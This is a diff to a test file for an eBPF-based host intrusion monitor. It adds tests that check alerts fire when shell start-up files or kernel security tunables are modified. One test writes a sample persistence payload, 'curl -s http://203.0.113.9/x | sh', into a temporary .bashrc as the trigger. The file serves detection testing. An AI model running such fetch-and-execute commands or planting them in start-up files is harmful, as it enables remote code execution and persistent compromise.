@@ -1,7 +1,7 @@
 /** @module test/kernel/rules-file.test: every default file rule fires on the real action, and stays quiet on a close benign one. */
 import { test, type TestContext } from 'node:test';
 import assert from 'node:assert/strict';
-import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { randomBytes } from 'node:crypto';
 import { requireBpf } from '../helpers/bpf.js';
@@ -163,6 +163,8 @@ const persistence: [string, string, string, string][] = [
 	['Cron job changed', '/etc/cron.d', 'bpfguard-test.', '/etc/cron.d/e2scrub_all'],
 	['Service unit changed', '/etc/systemd/system', 'bpfguard-test-', '/lib/systemd/system/apt-daily-upgrade.service'],
 	['Dynamic linker preload changed', '/etc/ld.so.conf.d', 'bpfguard-test-', '/etc/ld.so.conf'],
+	// /etc/profile sources *.sh only: the test file is inert
+	['Shell start-up file changed', '/etc/profile.d', 'bpfguard-test-', '/etc/profile'],
 ];
 
 for (const [rule, dir, prefix, readable] of persistence) {
@@ -246,5 +248,49 @@ test('truncating .bash_history with a redirect alerts; appending to it does not'
 		assert.match(String(a.fields['evt.arg.flags']), /O_TRUNC/);
 	} finally {
 		rmSync(home, { recursive: true, force: true });
+	}
+});
+
+test('appending to a ~/.bashrc alerts (T1546.004); an interactive bash reading it does not', async (t) => {
+	if (!requireBpf(t, OBJECTS)) return;
+	const home = mkdtempSync('/tmp/bg-home-');
+	const rc = join(home, '.bashrc');
+	writeFileSync(rc, '# test\n');
+	try {
+		const a = await expectRule(
+			t,
+			'Shell start-up file changed',
+			() => pidOf('/bin/sh', '-c', 'echo "curl -s http://203.0.113.9/x | sh" >> "$1"', 'sh', rc),
+			() => pidOf('/bin/bash', '--rcfile', rc, '-i', '-c', 'true'),
+		);
+		assert.equal(a.fields['fd.name'], rc);
+		assert.ok(a.tags.includes('T1546.004'));
+		assert.equal(a.fields['evt.is_open_write'], true);
+	} finally {
+		rmSync(home, { recursive: true, force: true });
+	}
+});
+
+test('kernel.kptr_restrict written by sysctl -w and by a shell redirection alerts; reading it does not (the value is restored)', async (t) => {
+	if (!requireBpf(t, OBJECTS)) return;
+	const path = '/proc/sys/kernel/kptr_restrict';
+	const was = readFileSync(path, 'utf8').trim();
+	try {
+		const pids: number[] = [];
+		const { alerts } = await withMonitor(async () => {
+			pids.push(await pidOf('/sbin/sysctl', '-q', '-w', `kernel.kptr_restrict=${was}`));
+			pids.push(await pidOf('/bin/sh', '-c', 'echo "$1" > /proc/sys/kernel/kptr_restrict', 'sh', was));
+			pids.push(await pidOf('/bin/cat', path));
+		});
+		const dump = JSON.stringify(alerts.map((a) => a.output));
+		assert.deepEqual(rulesFor(alerts, pids[0]), ['Security-relevant kernel tunable written'], dump);
+		assert.deepEqual(rulesFor(alerts, pids[1]), ['Security-relevant kernel tunable written'], dump);
+		assert.deepEqual(rulesFor(alerts, pids[2]), [], dump);
+		const a = alerts.find((x) => x.fields['proc.pid'] === pids[0])!;
+		assert.equal(a.fields['fd.name'], path);
+		assert.equal(a.fields['proc.name'], 'sysctl');
+		assert.ok(a.tags.includes('T1562.001'));
+	} finally {
+		writeFileSync(path, `${was}\n`);
 	}
 });
